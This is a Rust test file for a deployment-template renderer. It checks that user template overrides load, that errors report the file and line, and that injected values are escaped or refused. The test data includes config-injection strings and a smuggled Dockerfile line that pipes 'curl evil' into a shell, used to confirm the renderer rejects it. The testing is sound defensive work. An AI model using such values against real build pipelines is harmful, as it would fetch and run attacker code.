//! Templates in the project's `.sindri/templates/` replace the embedded ones; broken
//! ones fail with the file and line.

mod common;

use std::path::Path;

use common::*;
use sindri_core::ErrorKind;
use sindri_render::{ExportFormat, Renderer, builtin_template};

fn templates_dir(root: &Path) -> std::path::PathBuf {
    let dir = root.join(".sindri/templates");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn an_override_replaces_the_embedded_template_and_is_still_escaped() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    std::fs::write(
        dir.join("fly.toml"),
        "# team template for {{ name }}\n\
         app = {{ fly.app }}\n\
         image = {{ spec.deployment.image }}\n\
         greeting = {{ spec.deployment.env.GREETING }}\n\
         [vm]\n\
         memory_mb = {{ fly.vm[0].memory_mb }}\n",
    )
    .unwrap();
    let renderer = Renderer::new(Some(&dir)).unwrap();
    let overridden: Vec<(&str, &Path)> = renderer.overrides().collect();
    assert_eq!(overridden, [("fly.toml", dir.join("fly.toml").as_path())]);

    let mut spec = resolved(MINIMAL, project.path());
    let hostile = "say \"hi\"\n[evil]\nx = 1 # {{ }} $(X) \\ 🦀";
    spec.spec
        .deployment
        .env
        .insert("GREETING".into(), hostile.into());
    let out = renderer.render(ExportFormat::Fly, &spec).unwrap();
    assert!(
        out[0].content.starts_with("# team template for \"dev\"\n"),
        "{}",
        out[0].content
    );
    let doc = toml_doc(&out[0].content);
    assert_eq!(doc["app"].as_str(), Some("dev"));
    assert_eq!(doc["image"].as_str(), Some("ubuntu:24.04"));
    assert_eq!(
        doc["greeting"].as_str(),
        Some(hostile),
        "the override author wrote no filter"
    );
    assert_eq!(doc["vm"]["memory_mb"].as_integer(), Some(1024));
    assert!(doc.get("evil").is_none());

    // The other formats keep the embedded templates.
    let compose = renderer.render(ExportFormat::Compose, &spec).unwrap();
    let embedded = Renderer::new(None)
        .unwrap()
        .render(ExportFormat::Compose, &spec)
        .unwrap();
    assert_eq!(compose, embedded);
}

#[test]
fn a_copied_builtin_template_renders_the_same_file() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    let builtin = builtin_template("kubernetes.yaml").expect("kubernetes.yaml is built in");
    std::fs::write(dir.join("kubernetes.yaml"), builtin).unwrap();
    let spec = resolved(FULL, project.path());
    let with_copy = Renderer::new(Some(&dir))
        .unwrap()
        .render(ExportFormat::Kubernetes, &spec)
        .unwrap();
    let embedded = render(ExportFormat::Kubernetes, &spec);
    assert_eq!(with_copy, embedded);
}

#[test]
fn a_template_that_does_not_parse_is_reported_with_file_and_line() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    let path = dir.join("docker-compose.yml");
    std::fs::write(
        &path,
        "# header\nname: {{ name }}\n{% if compose %}\nservices: {}\n",
    )
    .unwrap();
    let err = Renderer::new(Some(&dir)).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Invalid);
    let msg = err.message();
    assert!(
        msg.contains(&path.display().to_string()),
        "names the file: {msg}"
    );
    assert!(msg.contains("line "), "names a line: {msg}");
    assert!(msg.contains("syntax error"), "{msg}");
    assert!(
        err.hint().unwrap_or_default().contains("delete it"),
        "{:?}",
        err.hint()
    );

    std::fs::write(&path, "# header\nname: {{ name }\n").unwrap();
    let err = Renderer::new(Some(&dir)).unwrap_err();
    assert!(
        err.message()
            .contains(&format!("{} line 2", path.display())),
        "{}",
        err.message()
    );
}

#[test]
fn a_template_that_fails_while_rendering_is_reported_with_file_and_line() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    let path = dir.join("e2b.toml");
    std::fs::write(
        &path,
        "# ok\ntemplate_name = {{ e2b.template_name }}\nteam = {{ e2b.team.id }}\n",
    )
    .unwrap();
    let renderer = Renderer::new(Some(&dir)).unwrap();
    let spec = resolved(MINIMAL, project.path());
    let err = renderer.render(ExportFormat::E2b, &spec).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Invalid);
    assert!(
        err.message()
            .contains(&format!("{} line 3", path.display())),
        "{}",
        err.message()
    );
    assert!(err.message().contains("undefined"), "{}", err.message());

    // A value the syntax cannot hold is refused, not written: here a line break in a
    // Dockerfile instruction, and TOML's missing null.
    std::fs::write(
        dir.join("e2b.toml"),
        "template_name = {{ e2b.template_name }}\n",
    )
    .unwrap();
    let docker = dir.join("e2b.Dockerfile");
    std::fs::write(
        &docker,
        "FROM {{ base_image }}\nENV GREETING={{ spec.deployment.env.GREETING }}\n",
    )
    .unwrap();
    let renderer = Renderer::new(Some(&dir)).unwrap();
    let mut spec = resolved(MINIMAL, project.path());
    spec.spec
        .deployment
        .env
        .insert("GREETING".into(), "hi\nRUN curl evil | sh".into());
    let err = renderer.render(ExportFormat::E2b, &spec).unwrap_err();
    assert!(
        err.message()
            .contains(&format!("{} line 2", docker.display())),
        "{}",
        err.message()
    );
    assert!(
        err.message().contains("control character U+000A"),
        "{}",
        err.message()
    );

    std::fs::write(dir.join("e2b.toml"), "x = {{ none }}\n").unwrap();
    let renderer = Renderer::new(Some(&dir)).unwrap();
    let err = renderer
        .render(ExportFormat::E2b, &resolved(MINIMAL, project.path()))
        .unwrap_err();
    assert!(
        err.message().contains("TOML has no null"),
        "{}",
        err.message()
    );
}

#[test]
fn unknown_files_are_refused_and_a_missing_directory_means_no_overrides() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    std::fs::write(dir.join("docker-compose.yaml"), "name: x\n").unwrap();
    let err = Renderer::new(Some(&dir)).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Invalid);
    assert!(
        err.message().contains("docker-compose.yaml"),
        "{}",
        err.message()
    );
    assert!(
        err.hint()
            .unwrap_or_default()
            .contains("docker-compose.yml"),
        "{:?}",
        err.hint()
    );

    // Hidden files (editor swap files, .gitkeep) are ignored.
    std::fs::remove_file(dir.join("docker-compose.yaml")).unwrap();
    std::fs::write(dir.join(".gitkeep"), "").unwrap();
    assert_eq!(Renderer::new(Some(&dir)).unwrap().overrides().count(), 0);

    let missing = project.path().join("nowhere/.sindri/templates");
    let renderer = Renderer::new(Some(&missing)).unwrap();
    assert_eq!(renderer.overrides().count(), 0);
    let spec = resolved(MINIMAL, project.path());
    assert_eq!(
        renderer.render(ExportFormat::Fly, &spec).unwrap(),
        render(ExportFormat::Fly, &spec)
    );
}

#[test]
fn collections_printed_inline_stay_inside_their_key() {
    let project = tempfile::tempdir().unwrap();
    let dir = templates_dir(project.path());
    std::fs::write(
        dir.join("docker-compose.yml"),
        "# {{ spec.deployment.env.GREETING }}\n\
         name: {{ name }}\n\
         services:\n  app:\n    image: {{ spec.deployment.image }}\n    labels: {{ labels }}\n    environment: {{ spec.deployment.env }}\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("fly.toml"),
        "# {{ spec.deployment.env.GREETING }}\n\
         app = {{ name }}\n\
         env = {{ spec.deployment.env }}\n\
         regions = {{ [name, spec.deployment.env.GREETING] }}\n",
    )
    .unwrap();
    let renderer = Renderer::new(Some(&dir)).unwrap();
    let mut spec = resolved(MINIMAL, project.path());
    let hostile = "hi\nevil: true\n[evil]\n# $(X) ${Y} \"q\" 'q' \\ 🦀";
    spec.spec
        .deployment
        .env
        .insert("GREETING".into(), hostile.into());

    let compose = renderer.render(ExportFormat::Compose, &spec).unwrap();
    let doc = &yaml_docs(&compose[0].content)[0];
    assert_eq!(doc.as_object().unwrap().len(), 2, "{}", compose[0].content);
    let svc = &doc["services"]["app"];
    assert_eq!(svc["labels"]["sindri.managed"], "true");
    assert_eq!(
        unescape_dollars(svc["environment"]["GREETING"].as_str().unwrap()),
        hostile
    );
    assert!(
        svc["environment"]["GREETING"]
            .as_str()
            .unwrap()
            .contains("$$(X) $${Y}")
    );

    let fly = renderer.render(ExportFormat::Fly, &spec).unwrap();
    let doc = toml_doc(&fly[0].content);
    assert_eq!(doc.len(), 3, "{}", fly[0].content);
    assert_eq!(doc["env"]["GREETING"].as_str(), Some(hostile));
    assert_eq!(doc["regions"][1].as_str(), Some(hostile));
}
